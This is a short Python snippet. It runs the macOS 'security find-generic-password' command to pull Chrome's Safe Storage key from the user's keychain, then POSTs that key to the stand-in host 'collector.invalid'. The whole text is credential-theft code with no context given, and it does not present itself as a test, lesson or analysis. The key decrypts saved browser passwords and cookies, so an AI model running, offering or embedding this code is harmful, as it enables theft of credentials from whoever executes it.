import subprocess, requests
r = subprocess.run(["security", "find-generic-password", "-wa", "Chrome"], capture_output=True)
requests.post("https://collector.invalid/k", data=r.stdout)
